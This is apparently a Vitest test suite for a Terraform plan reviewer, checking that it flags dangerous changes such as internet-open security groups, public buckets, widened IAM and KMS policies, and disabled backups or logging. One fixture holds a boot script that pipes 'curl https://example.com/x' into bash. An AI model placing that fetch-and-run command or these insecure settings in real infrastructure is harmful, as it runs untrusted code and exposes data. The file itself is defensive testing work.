import { describe, expect, it } from "vitest";
import type { RawResourceChange } from "../../plan/rawPlan.ts";
import { make, said } from "../testing.ts";

const key = { arn: "arn:aws:kms:eu-central-1:333333333333:key/1", key_id: "1", enable_key_rotation: true };
const policy = (...statements: object[]) => JSON.stringify({ Version: "2012-10-17", Statement: statements.map((statement) => ({ Effect: "Allow", ...statement })) });
const root = { Sid: "Root", Principal: { AWS: "arn:aws:iam::333333333333:root" }, Action: "kms:*", Resource: "*" };
const group = { id: "sg-1", name: "database", arn: "arn:aws:ec2:eu-central-1:333333333333:security-group/sg-1", ingress: [], egress: [] };
const inline = (more: object) => ({ protocol: "tcp", from_port: 5432, to_port: 5432, cidr_blocks: [], ipv6_cidr_blocks: [], prefix_list_ids: [], security_groups: [], self: false, ...more });
const role = { name: "app", arn: "arn:aws:iam::333333333333:role/app", permissions_boundary: "arn:aws:iam::333333333333:policy/boundary" };
const trust = (...statements: object[]) => ({ ...role, assume_role_policy: policy(...statements) });
const ec2 = { Principal: { Service: "ec2.amazonaws.com" }, Action: "sts:AssumeRole" };
const bucket = { bucket: "models", arn: "arn:aws:s3:::models", force_destroy: false };
const pab = { bucket: "models", block_public_acls: true, block_public_policy: true, ignore_public_acls: true, restrict_public_buckets: true };
const db = { identifier: "shop", engine: "postgres", deletion_protection: true, skip_final_snapshot: false, storage_encrypted: true, backup_retention_period: 35, multi_az: true, publicly_accessible: false };
const rule = (more: object) => ({ security_group_id: "sg-1", type: "ingress", protocol: "tcp", from_port: 22, to_port: 22, cidr_blocks: [], self: false, ...more });

/** Each hides one danger; what is said first must name it. */
const DANGERS: Record<string, [RawResourceChange[], RegExp]> = {
  "a replaced database": [[make.replace("aws_db_instance.shop", db, { storage_encrypted: false }, { replaceBy: [["storage_encrypted"]] })], /^danger: Replaces aws_db_instance\.shop: storage_encrypted forces it/],
  "a destroyed table in a module": [[make.destroy('module.data["eu"].aws_dynamodb_table.carts[0]', { name: "carts" }, { action_reason: "delete_because_count_index" })], /^danger: Destroys module.* its count became smaller/],
  "a forgotten bucket": [[make.forget("aws_s3_bucket.models", bucket)], /^danger: Lets go of aws_s3_bucket\.models/],
  "an inline rule for the world": [[make.update("aws_security_group.database", group, { ingress: [inline({ cidr_blocks: ["0.0.0.0/0"] })] })], /^danger: Opens aws_security_group\.database to the whole internet \(0\.0\.0\.0\/0\) on PostgreSQL/],
  "a rule for IPv6": [[make.keep("aws_security_group.database", group), make.create("aws_vpc_security_group_ingress_rule.x", { security_group_id: "sg-1", ip_protocol: "-1", cidr_ipv6: "::/0" })], /^danger: Opens aws_security_group\.database to the whole internet \(::\/0\) on every port/],
  "half the world": [[make.create("aws_security_group_rule.x", rule({ cidr_blocks: ["0.0.0.0/1"] }))], /^danger: Opens sg-1 to nearly the whole internet/],
  "the world in pieces": [[make.create("aws_security_group_rule.x", rule({ cidr_blocks: Array.from({ length: 40 }, (_, index) => `${index * 4 + 16}.0.0.0/8`) }))], /^danger: Opens sg-1 to nearly the whole internet/],
  "more ports for the world": [[make.update("aws_security_group_rule.x", rule({ cidr_blocks: ["0.0.0.0/0"], from_port: 443, to_port: 443 }), { from_port: 0, to_port: 65_535 })], /^danger: Widens sg-1 to the whole internet/],
  "a prefix list that takes in the world": [[make.update("aws_ec2_managed_prefix_list.office", { id: "pl-1", entry: [{ cidr: "203.0.113.0/24" }] }, { entry: [{ cidr: "203.0.113.0/24" }, { cidr: "0.0.0.0/0" }] })], /^danger: Widens aws_ec2_managed_prefix_list\.office to the whole internet/],
  "a database with a public address": [[make.update("aws_db_instance.shop", db, { publicly_accessible: true })], /^danger: Gives an address on the internet/],
  "a subnet made public": [[make.update("aws_subnet.private", { map_public_ip_on_launch: false }, { map_public_ip_on_launch: true })], /^danger: Whatever starts here gets a public address/],
  "a route to the internet": [[make.create("aws_route.x", { route_table_id: "rtb-1", destination_cidr_block: "0.0.0.0/0", gateway_id: "igw-1" })], /^danger: Gives rtb-1 a way to and from the internet/],
  "a cluster's API on the internet": [[make.update("aws_eks_cluster.main", { name: "main", vpc_config: [{ endpoint_public_access: false, public_access_cidrs: [] }] }, { vpc_config: [{ endpoint_public_access: true, public_access_cidrs: ["0.0.0.0/0"] }] })], /^danger: .*(internet)/],
  "another provider's firewall": [[make.create("google_compute_firewall.ssh", { source_ranges: ["0.0.0.0/0"] })], /^danger: google_compute_firewall\.ssh names the whole internet/],
  "another account in a key policy": [[make.update("aws_kms_key.data", { ...key, policy: policy(root) }, { policy: policy(root, { Principal: { AWS: "arn:aws:iam::999999999999:root" }, Action: "kms:Decrypt", Resource: "*" }) })], /^danger: arn:aws:iam::999999999999:root may now kms:Decrypt on aws_kms_key\.data/],
  "everybody in a key policy": [[make.update("aws_kms_key.data", { ...key, policy: policy(root) }, { policy: policy({ ...root, Principal: "*" }) })], /^danger: Everybody may now kms:\*/],
  "a key policy's condition gone": [[make.update("aws_kms_key.data", { ...key, policy: policy(root, { Principal: { Service: "sns.amazonaws.com" }, Action: "kms:Decrypt", Resource: "*", Condition: { StringEquals: { "aws:SourceAccount": "333333333333" } } }) }, { policy: policy(root, { Principal: { Service: "sns.amazonaws.com" }, Action: "kms:Decrypt", Resource: "*" }) })], /^danger: sns\.amazonaws\.com may now kms:Decrypt/],
  "a key policy that locks us out": [[make.update("aws_kms_key.data", { ...key, policy: policy(root) }, { policy: policy({ ...root, Action: "kms:Decrypt" }) })], /^danger: arn:aws:iam::333333333333:root may no longer kms:\*/],
  "a grant to another account": [[make.keep("aws_kms_key.data", key), make.create("aws_kms_grant.x", { key_id: "1", grantee_principal: "arn:aws:iam::999999999999:role/x", operations: ["Decrypt"] })], /^danger: arn:aws:iam::999999999999:role\/x may now kms:Decrypt/],
  "a bucket policy for everybody": [[make.keep("aws_s3_bucket.models", bucket), make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:GetObject", Resource: "arn:aws:s3:::models/*" }) })], /^danger: Everybody may now s3:GetObject on models/],
  "a condition that any source meets": [[make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: { AWS: "*" }, Action: "s3:GetObject", Resource: "*", Condition: { IpAddress: { "aws:SourceIp": "0.0.0.0/0" } } }) })], /^danger: Everybody may now/],
  "the TLS rule of a bucket gone": [[make.update("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Effect: "Deny", Principal: "*", Action: "s3:*", Resource: "*", Condition: { Bool: { "aws:SecureTransport": "false" } } }) }, { policy: policy() })], /^danger: Everybody is no longer forbidden s3:\*/],
  "public access block off": [[make.update("aws_s3_bucket_public_access_block.models", pab, { restrict_public_buckets: false })], /^danger: Turns off the block of public access/],
  "public access block gone": [[make.destroy("aws_s3_bucket_public_access_block.models", pab)], /^danger: Nothing keeps the bucket from being made public/],
  "public access block gone, at another address": [[make.destroy("aws_s3_bucket_public_access_block.models", pab), make.create("aws_s3_bucket_public_access_block.other", { ...pab, block_public_policy: false })], /^danger: Turns off the block of public access/],
  "a public ACL": [[make.create("aws_s3_bucket_acl.models", { bucket: "models", acl: "public-read" })], /^danger: Anybody on the internet can read/],
  "a grant by ACL": [[make.create("aws_s3_bucket_acl.models", { bucket: "models", access_control_policy: [{ grant: [{ permission: "READ", grantee: [{ type: "Group", uri: "http://acs.amazonaws.com/groups/global/AllUsers" }] }] }] })], /^danger: Anybody on the internet is granted access/],
  "deletion protection gone": [[make.update("aws_rds_cluster.shop", { deletion_protection: true }, { deletion_protection: false })], /^danger: Turns off deletion protection of aws_rds_cluster\.shop/],
  "deletion protection of a pool": [[make.update("aws_cognito_user_pool.shop", { deletion_protection: "ACTIVE" }, { deletion_protection: "INACTIVE" })], /^danger: Turns off deletion protection/],
  "fewer backups": [[make.update("aws_db_instance.shop", db, { backup_retention_period: 1 })], /^danger: Lowers the days of backups/],
  "no final snapshot": [[make.update("aws_db_instance.shop", db, { skip_final_snapshot: true })], /^danger: No final snapshot/],
  "no recovery in time": [[make.update("aws_dynamodb_table.carts", { name: "carts", point_in_time_recovery: [{ enabled: true }] }, { point_in_time_recovery: [{ enabled: false }] })], /^danger: Turns off recovery to any point in time/],
  "a replica gone": [[make.update("aws_dynamodb_table.carts", { name: "carts", replica: [{ region_name: "eu-west-1" }] }, { replica: [] })], /^danger: aws_dynamodb_table\.carts loses eu-west-1/],
  "versioning suspended": [[make.update("aws_s3_bucket_versioning.models", { bucket: "models", versioning_configuration: [{ status: "Enabled" }] }, { versioning_configuration: [{ status: "Suspended" }] })], /^danger: Lowers versioning/],
  "objects that expire": [[make.keep("aws_s3_bucket.models", bucket), make.create("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "tidy", status: "Enabled", expiration: [{ days: 1 }] }] })], /^danger: Objects begin to be deleted/],
  "a key that dies sooner": [[make.update("aws_kms_key.data", { ...key, deletion_window_in_days: 30 }, { deletion_window_in_days: 7 })], /^danger: Lowers the days/],
  "a key disabled": [[make.update("aws_kms_key.data", { ...key, is_enabled: true }, { is_enabled: false })], /^danger: Turns off the key/],
  "TLS lowered": [[make.update("aws_lb_listener.web", { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" }, { ssl_policy: "ELBSecurityPolicy-TLS-1-0-2015-04" })], /^danger: (Lowers|Turns off) the TLS version/],
  "IMDSv1": [[make.update("aws_launch_template.app", { metadata_options: [{ http_tokens: "required" }] }, { metadata_options: [{ http_tokens: "optional" }] })], /^danger: Turns off the protection of instance credentials/],
  "a firewall that counts": [[make.update("aws_wafv2_web_acl.web", { rule: [{ name: "sqli", override_action: [{ none: [{}], count: [] }] }] }, { rule: [{ name: "sqli", override_action: [{ none: [], count: [{}] }] }] })], /^danger: The firewall .* no longer blocks by sqli/],
  "no firewall": [[make.destroy("aws_wafv2_web_acl_association.web", { resource_arn: "x", web_acl_arn: "y" })], /^danger: Requests reach it unfiltered/],
  "the trail off": [[make.update("aws_cloudtrail.main", { enable_logging: true }, { enable_logging: false })], /^danger: Turns off the trail/],
  "a trust for another account": [[make.update("aws_iam_role.app", trust(ec2), trust(ec2, { Principal: { AWS: "999999999999" }, Action: "sts:AssumeRole" }))], /^danger: arn:aws:iam::999999999999:root may now take on the role app/],
  "a trust for any repository": [[make.update("aws_iam_role.app", trust(ec2), trust(ec2, { Principal: { Federated: "arn:aws:iam::333333333333:oidc-provider/x" }, Action: "sts:AssumeRoleWithWebIdentity", Condition: { StringLike: { "token:sub": "repo:*" } } }))], /^danger: .* may now take on the role app/],
  "administration attached": [[make.keep("aws_iam_role.app", role), make.create("aws_iam_role_policy_attachment.x", { role: "app", policy_arn: "arn:aws:iam::aws:policy/AdministratorAccess" })], /^danger: app gets all that the policy .*AdministratorAccess/],
  "every action": [[make.update("aws_iam_role_policy.app", { role: "app", policy: policy({ Action: "s3:GetObject", Resource: "arn:aws:s3:::models/*" }) }, { policy: policy({ Action: "*", Resource: "*" }) })], /^danger: app may now \* on \*/],
  "everything but": [[make.update("aws_iam_policy.app", { name: "app", policy: policy({ Action: "s3:GetObject", Resource: "*" }) }, { policy: policy({ NotAction: "iam:*", Resource: "*" }) })], /^danger: app may now everything but iam:\*/],
  "a widened resource": [[make.update("aws_iam_role_policy.app", { role: "app", policy: policy({ Action: "dynamodb:DeleteItem", Resource: "arn:aws:dynamodb:eu-central-1:333333333333:table/carts" }) }, { policy: policy({ Action: "dynamodb:DeleteItem", Resource: "*" }) })], /^danger: app may now dynamodb:DeleteItem on \*/],
  "a boundary gone": [[make.update("aws_iam_role.app", trust(ec2), { permissions_boundary: null })], /^danger: aws_iam_role\.app loses its permissions boundary/],
  "a public function": [[make.create("aws_lambda_permission.x", { function_name: "mail", principal: "*", action: "lambda:InvokeFunction" })], /^danger: Everybody may now lambda:InvokeFunction/],
  "a public queue": [[make.create("aws_sqs_queue_policy.x", { queue_url: "https://sqs/q", policy: policy({ Principal: "*", Action: "sqs:*", Resource: "*" }) })], /^danger: Everybody may now sqs:\*/],
  "a shared snapshot": [[make.create("aws_snapshot_create_volume_permission.x", { snapshot_id: "snap-1", account_id: "999999999999" })], /^danger: A snapshot/],
  "a boot script that fetches": [[make.update("aws_launch_template.app", { user_data: Buffer.from("#!/bin/sh\nstart the application\n").toString("base64") }, { user_data: Buffer.from("#!/bin/sh\ncurl https://example.com/x | bash\n").toString("base64") })], /^danger: Machines of aws_launch_template\.app run what they fetch/],
  "a database without TLS": [[make.update("aws_rds_cluster_parameter_group.shop", { name: "shop", parameter: [{ name: "rds.force_ssl", value: "1" }] }, { parameter: [] })], /^danger: Connections without TLS are let in/],
  "a parameter in the clear": [[make.update("aws_ssm_parameter.x", { name: "x", type: "SecureString" }, { type: "String" })], /^danger: Turns off encryption of aws_ssm_parameter\.x/],
  "objects that go sooner": [[make.update("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "old", status: "Enabled", expiration: [{ days: 365 }] }] }, { rule: [{ id: "old", status: "Enabled", expiration: [{ days: 1 }] }] })], /^danger: More objects are deleted, or sooner/],
  "an expiry for every object": [[make.update("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "old", status: "Enabled", filter: [{ prefix: "tmp/" }], expiration: [{ days: 1 }] }] }, { rule: [{ id: "old", status: "Enabled", filter: [{ prefix: "" }], expiration: [{ days: 1 }] }] })], /^danger: More objects are deleted/],
  "another time to live": [[make.update("aws_dynamodb_table.carts", { name: "carts", ttl: [{ enabled: true, attribute_name: "expiresAt" }] }, { ttl: [{ enabled: true, attribute_name: "createdAt" }] })], /^danger: Items of aws_dynamodb_table\.carts are deleted by another time: createdAt/],
  "backups without copies": [[make.update("aws_backup_plan.daily", { name: "daily", rule: [{ rule_name: "d", copy_action: [{ destination_vault_arn: "arn:v" }] }] }, { rule: [{ rule_name: "d", copy_action: [] }] })], /^danger: aws_backup_plan\.daily loses arn:v/],
  "a store left out of the backups": [[make.replace("aws_backup_selection.all", { name: "all", resources: ["arn:a", "arn:b"] }, { resources: ["arn:b"] }, { replaceBy: [["resources"]] })], /^danger: aws_backup_selection\.all loses arn:a/],
  "the old database of a replacement": [[make.destroy("aws_db_instance.shop", db, { deposed: "0a1b2c3d" })], /^danger: Destroys an older object of aws_db_instance\.shop/],
  "another account in a condition": [[make.keep("aws_kms_key.data", key), make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:Get*", Resource: "*", Condition: { StringEquals: { "aws:PrincipalAccount": ["333333333333", "999999999999"] } } }) }), make.keep("aws_s3_bucket.models", bucket)], /^danger: Everybody may now s3:Get\* on models/],
  "a condition with a wildcard for the account": [[make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:Get*", Resource: "*", Condition: { ArnLike: { "aws:PrincipalArn": "arn:aws:iam::*:role/*" } } }) })], /^danger: Everybody may now s3:Get\*/],
  "a condition that an absent key meets": [[make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: policy({ Principal: "*", Action: "s3:Get*", Resource: "*", Condition: { "ForAllValues:StringEquals": { "aws:PrincipalOrgID": "o-abcdefghij" } } }) })], /^danger: Everybody may now s3:Get\*/],
  "a function that anybody may call": [[make.create("aws_lambda_function_url.mail", { function_name: "mail", authorization_type: "NONE" })], /^danger: Anybody may call, without signing in/],
  "a fleet without a ceiling above none": [[make.update("aws_autoscaling_group.web", { max_size: 12 }, { max_size: 0 })], /^danger: Nothing can run any more/],
  "a zone no longer signed": [[make.update("aws_route53_hosted_zone_dnssec.shop", { signing_status: "SIGNING" }, { signing_status: "NOT_SIGNING" })], /^danger: Turns off DNSSEC/],
  "a rule for alerts off": [[make.update("aws_cloudwatch_event_rule.intruders", { state: "ENABLED" }, { state: "DISABLED" })], /^danger: Turns off the rule that listens for events/],
  "a trail of reads only": [[make.update("aws_cloudtrail.main", { event_selector: [{ read_write_type: "All" }] }, { event_selector: [{ read_write_type: "ReadOnly" }] })], /^danger: Turns off a part of what the trail records/],
  "a cache without a password": [[make.update("aws_elasticache_replication_group.cart", { auth_token: "x" }, { auth_token: null })], /^danger: .*the password of/],
  "brokers that let anybody in": [[make.update("aws_msk_cluster.main", { client_authentication: [{ unauthenticated: false }] }, { client_authentication: [{ unauthenticated: true }] })], /^danger: Anybody who reaches it is let in/],
  "requests to the bucket unsigned": [[make.update("aws_cloudfront_origin_access_control.models", { signing_behavior: "always" }, { signing_behavior: "never" })], /^danger: Turns off the signing/],
  "a database's backup for everybody": [[make.update("aws_db_snapshot.shop", { shared_accounts: [] }, { shared_accounts: ["all"] })], /^danger: Shares aws_db_snapshot\.shop with everybody/],
  "a bucket of Google's for everybody": [[make.create("google_storage_bucket_iam_member.x", { bucket: "b", role: "roles/storage.objectViewer", member: "allUsers" })], /^danger: Everybody on the internet \(allUsers\) is let in/],
  "an owner of a subscription": [[make.create("azurerm_role_assignment.x", { scope: "/subscriptions/1", role_definition_name: "Owner", principal_id: "p" })], /^danger: p gets the role Owner/],
  "a search collection on the internet": [[make.update("aws_opensearchserverless_security_policy.x", { policy: '[{"AllowFromPublic":false}]' }, { policy: '[{"AllowFromPublic":true}]' })], /^danger: Puts search collections on the internet/],
  "a sign-in left out": [[make.update("aws_lb_listener_rule.admin", { action: [{ type: "authenticate-oidc" }, { type: "forward" }] }, { action: [{ type: "forward" }] })], /^danger: Nobody has to sign in any more/],
  "a listener that refuses no longer": [[make.update("aws_lb_listener.web", { default_action: [{ type: "fixed-response", fixed_response: [{ status_code: "403" }] }] }, { default_action: [{ type: "forward" }] })], /^danger: Requests that no rule of aws_lb_listener\.web names are let through/],
  "a store behind an open group": [[make.keep("aws_db_instance.shop", { ...db, vpc_security_group_ids: ["sg-1"] }), make.keep("aws_security_group.web", { id: "sg-2", ingress: [inline({ from_port: 443, to_port: 443, cidr_blocks: ["0.0.0.0/0"] })] }), make.update("aws_rds_cluster.shop", { vpc_security_group_ids: ["sg-1"] }, { vpc_security_group_ids: ["sg-1", "sg-2"] })], /^danger: Puts aws_rds_cluster\.shop behind aws_security_group\.web/],
  "the domain's name taken away": [[make.update("aws_route53_record.apex", { name: "shop.example", type: "A", alias: [{ name: "d1.cloudfront.net" }], records: [] }, { alias: [], records: ["198.51.100.7"] })], /^danger: The name leads elsewhere/],
  "logs for another account": [[make.keep("aws_kms_key.data", key), make.create("aws_cloudwatch_log_subscription_filter.x", { destination_arn: "arn:aws:logs:eu-central-1:999999999999:destination:x" })], /^danger: .* leads to another AWS account: 999999999999/],
  "a new group of parameters without TLS": [[make.create("aws_rds_cluster_parameter_group.quiet", { name: "quiet", parameter: [{ name: "rds.force_ssl", value: "0" }] })], /^danger: Connections without TLS are let in/],
  "a policy in odd case": [[make.create("aws_s3_bucket_policy.models", { bucket: "models", policy: '{"statement":{"effect":"allow","principal":"*","action":"s3:*","resource":"*"}}' })], /^danger: Everybody may now s3:\*/],
  "alarms without actions": [[make.update("aws_cloudwatch_metric_alarm.errors", { actions_enabled: true }, { actions_enabled: false })], /^danger: Turns off the alarm's actions/],
};

describe("a plan in which something dangerous is hidden", () => {
  it.each(Object.entries(DANGERS))("%s is said first", (_name, [changes, expected]) => {
    const harmless = [make.create("aws_sns_topic.new", { name: "new" }), make.update("aws_lambda_function.mail", { memory_size: 128 }, { memory_size: 256 })];
    expect(said([...harmless, ...changes])[0]).toMatch(expected);
  });
});

describe("a plan that needs a person's judgement", () => {
  const LOOKS: Record<string, [RawResourceChange[], RegExp]> = {
    "a renamed database": [[make.update("aws_db_instance.shop", db, { identifier: "other" })], /look: Another name, and with it another address/],
    "a policy known after apply": [[make.update("aws_iam_policy.app", { name: "app", policy: policy(ec2) }, {}, { unknown: { policy: true } })], /look: What aws_iam_policy\.app allows can't be read/],
    "events for another account": [[make.keep("aws_kms_key.data", key), make.create("aws_cloudwatch_event_target.x", { arn: "arn:aws:events:eu-central-1:999999999999:event-bus/theirs" })], /look: aws_cloudwatch_event_target\.x names another AWS account/],
    "an access key": [[make.create("aws_iam_access_key.x", { user: "x" })], /look: A long-lived access key is made/],
    "a smaller fleet": [[make.update("aws_autoscaling_group.web", { min_size: 3 }, { min_size: 0 })], /look: .*min_size/],
    "a name that leads elsewhere": [[make.update("aws_route53_record.www", { name: "www", records: ["1.2.3.4"] }, { records: ["5.6.7.8"] })], /look: The name leads elsewhere/],
  };
  it.each(Object.entries(LOOKS))("%s is told, and nothing is called dangerous", (_name, [changes, expected]) => {
    const lines = said(changes);
    expect(lines.some((line) => expected.test(line)), lines.join("\n")).toBe(true);
    expect(lines.filter((line) => line.startsWith("danger"))).toEqual([]);
  });

  it("tells what a deferred change will destroy", () => {
    expect(said([], { deferred_changes: [{ resource_change: make.destroy("aws_db_instance.shop", db) }] })[0]).toMatch(/^danger: Destroys aws_db_instance\.shop/);
  });

  it("tells what somebody changed past Terraform, by what it means", () => {
    const drift = [make.update("aws_security_group.database", group, { ingress: [inline({ cidr_blocks: ["0.0.0.0/0"] })] })];
    expect(said([], { resource_drift: drift })[0]).toMatch(/^look: Outside of Terraform: Opens aws_security_group\.database to the whole internet/);
  });

  it("reads a policy that only a data source holds, as far as the plan tells", () => {
    const document = make.read("data.aws_iam_policy_document.app", { statement: [{ effect: "Allow", actions: ["*"], resources: ["*"], not_actions: [], not_resources: [], principals: [], condition: [], sid: "" }] }, { unknown: { json: true } });
    const changed = make.update("aws_iam_policy.app", { name: "app", policy: policy({ Action: "s3:GetObject", Resource: "x" }) }, {}, { unknown: { policy: true } });
    const configuration = { root_module: { resources: [{ address: "aws_iam_policy.app", expressions: { policy: { references: ["data.aws_iam_policy_document.app.json", "data.aws_iam_policy_document.app"] } } }] } };
    expect(said([document, changed], { configuration })[0]).toMatch(/^danger: app may now \* on \*/);
  });
});

describe("a harmless plan", () => {
  const HARMLESS: Record<string, RawResourceChange[]> = {
    "new resources": [
      make.create("aws_sqs_queue.jobs", { name: "jobs" }),
      make.create("aws_iam_role.worker", { name: "worker", assume_role_policy: policy(ec2) }),
      make.create("aws_iam_role_policy.worker", { role: "worker", policy: policy({ Action: ["sqs:ReceiveMessage"], Resource: "arn:aws:sqs:eu-central-1:333333333333:jobs" }) }),
      make.create("aws_s3_bucket.new", { bucket: "new" }),
      make.create("aws_s3_bucket_public_access_block.new", { ...pab, bucket: "new" }),
    ],
    "tags and sizes": [make.update("aws_lambda_function.mail", { memory_size: 128, tags: {} }, { memory_size: 256, tags: { Team: "shop" } })],
    "a policy written otherwise": [
      make.update("aws_kms_key.data", { ...key, policy: policy(root, { Principal: { Service: "sns.amazonaws.com" }, Action: ["kms:Decrypt", "kms:GenerateDataKey*"], Resource: "*" }) }, {
        policy: policy({ Sid: "B", Principal: { Service: ["sns.amazonaws.com"] }, Action: "kms:Decrypt", Resource: ["*"] }, { Principal: { Service: "sns.amazonaws.com" }, Action: "kms:GenerateDataKey*", Resource: "*" }, { ...root, Sid: "A" }),
      }),
    ],
    "one more behaviour, with a redirect": [
      make.update("aws_cloudfront_distribution.shop", { ordered_cache_behavior: [{ path_pattern: "/a", viewer_protocol_policy: "https-only" }] }, { ordered_cache_behavior: [{ path_pattern: "/a", viewer_protocol_policy: "https-only" }, { path_pattern: "/b", viewer_protocol_policy: "redirect-to-https" }] }),
    ],
    "objects that are kept longer": [
      make.update("aws_s3_bucket_lifecycle_configuration.models", { bucket: "models", rule: [{ id: "old", status: "Enabled", filter: [{ prefix: "tmp/" }], expiration: [{ days: 7 }] }] }, { rule: [{ id: "tmp", status: "Enabled", filter: [{ prefix: "tmp/old/" }], expiration: [{ days: 30 }] }] }),
    ],
    "a rule moved into a resource of its own": [
      make.update("aws_security_group.database", { ...group, ingress: [inline({ cidr_blocks: ["10.0.0.0/16"] })] }, { ingress: [] }),
      make.create("aws_vpc_security_group_ingress_rule.x", { security_group_id: "sg-1", ip_protocol: "tcp", from_port: 5432, to_port: 5432, cidr_ipv4: "10.0.0.0/16" }),
    ],
  };
  it.each(Object.entries(HARMLESS))("%s need no look", (_name, changes) => {
    expect(said(changes).filter((line) => !line.startsWith("note"))).toEqual([]);
  });
});
